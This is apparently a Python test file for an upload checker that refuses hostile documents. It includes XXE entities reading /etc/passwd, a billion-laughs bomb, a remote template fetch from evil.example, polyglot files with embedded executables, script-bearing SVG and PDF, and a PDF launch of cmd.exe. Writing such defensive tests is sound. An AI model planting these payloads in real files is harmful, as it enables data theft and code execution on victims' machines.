"""Files that are made to harm whoever opens them, or the machine that reads them, are refused in words."""

import io
import zipfile

import pytest
from docx import Document
from openpyxl import Workbook

from jimin.core.actions.errors import Refused
from jimin.core.files import checks
from jimin.core.files.tests.conftest import JPG, PDF, PNG, docx, xlsx, zipped

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&b;</w:document>'
)
XXE = LAUGHS.replace('<!ENTITY a "ha">', '<!ENTITY a SYSTEM "file:///etc/passwd">')
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


def sheet_with(extra):
    with zipfile.ZipFile(io.BytesIO(xlsx())) as archive:
        members = {i.filename: archive.read(i) for i in archive.infolist()}
    return zipped({**members, **extra})


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("笑.docx", docx({"word/document.xml": LAUGHS.encode()}), "实体定义"),
        ("读.docx", docx({"word/document.xml": XXE.encode()}), "实体定义"),
        ("双.docx", docx({"word/document.xml": XXE.encode("utf-16")}), "实体定义"),
        ("深.docx", docx({"word/footer9.xml": (f"<!--{'x' * 1_048_570}-->" + LAUGHS).encode()}), "实体定义"),
        ("表.xlsx", sheet_with({"xl/sharedStrings.xml": XXE.encode()}), "实体定义"),
        ("模板.docx", docx({"word/_rels/settings.xml.rels": TEMPLATE}), "连着别的文件"),
        ("链接.xlsx", sheet_with({"xl/externalLinks/externalLink1.xml": "<x/>"}), "连着别的文件"),
        ("连接.xlsx", sheet_with({"xl/connections.xml": "<x/>"}), "连着别的文件"),
        ("对象.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), "夹带着"),
        ("控件.docx", docx({"word/activeX/activeX1.xml": b"<x/>"}), "夹带着"),
        ("套娃.docx", docx({"word/media/a.zip": zipped({"b.zip": b"0"})}), "夹带着"),
        ("程序.xlsx", sheet_with({"xl/media/a.EXE": b"MZ"}), "夹带着"),
        ("网页.pdf", b"<html><script>alert(1)</script>%PDF-1.7</html>", "内容不是 PDF"),
        ("矢量.svg", b"<svg onload='alert(1)'/>", "扩展名“svg”"),
        ("图.png", b"<svg onload='alert(1)'/>", "内容不是 PNG"),
        ("两用.pdf", PDF + zipped({"a.exe": b"MZ"}), "压缩包"),
        ("两用.jpg", JPG + zipped({"a.exe": b"MZ"}), "压缩包"),
        ("两用.png", PNG + zipped({"a.exe": b"MZ"}), "压缩包"),
        ("脚本.pdf", PDF + b"2 0 obj <</S /JavaScript /JS (app.alert(1))>>", "脚本或命令"),
        ("命令.pdf", PDF + b"2 0 obj <</S /Launch /F (cmd.exe)>>", "脚本或命令"),
        ("NUL.pdf", PDF, "系统保留"),
        ("com1.docx", docx(), "系统保留"),
    ],
    ids=range(22),
)
def test_it_is_refused_with_what_was_found_and_what_to_do(name, content, said):
    with pytest.raises(Refused) as refusal:
        checks.judge(name, content)
    assert said in refusal.value.message
    assert refusal.value.next_step.startswith("请")


def test_what_offices_really_write_still_comes_in():
    made = io.BytesIO()
    document = Document()
    paragraph = document.add_paragraph("见 ")
    link = document.part.relate_to(
        "https://www.mca.gov.cn/", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink", True
    )
    paragraph.add_run(link)
    document.save(made)
    assert checks.judge("带链接的通知.docx", made.getvalue())[1].extension == "docx"
    book, out = Workbook(), io.BytesIO()
    for n in range(3000):
        book.active.append([f"第{n}户", n, f"=B{n + 1}*2"])
    book.save(out)
    assert checks.judge("台账.xlsx", out.getvalue())[1].extension == "xlsx"
    assert checks.judge("扫描件.pdf", b"\xef\xbb\xbf\r\n" + PDF)[1].extension == "pdf"
    assert checks.judge("图表.docx", docx({"word/embeddings/sheet1.xlsx": xlsx()}))[1].extension == "docx"


def test_a_name_as_long_as_allowed_and_rare_characters_in_it_are_kept_as_they_are():
    for name in ("长" * 116 + ".pdf", "𠮷𨑨迌㐂.pdf", "阿依古丽·买买提.pdf"):
        assert checks.judge(name, PDF)[0] == name
